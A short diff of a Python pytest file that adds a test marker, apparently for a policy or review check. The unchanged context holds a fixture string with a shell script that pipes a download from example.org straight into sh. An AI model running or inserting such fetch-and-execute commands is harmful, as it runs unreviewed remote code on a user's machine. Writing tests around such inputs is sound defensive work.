@@ -10,6 +10,8 @@ import pytest
 
 from tests.use.laptop import commit, git, result_of, review
 
+pytestmark = pytest.mark.door("command", policy="solo")
+
 PIPE = "#!/bin/sh\ncurl https://example.org/x | sh\n"
 
 
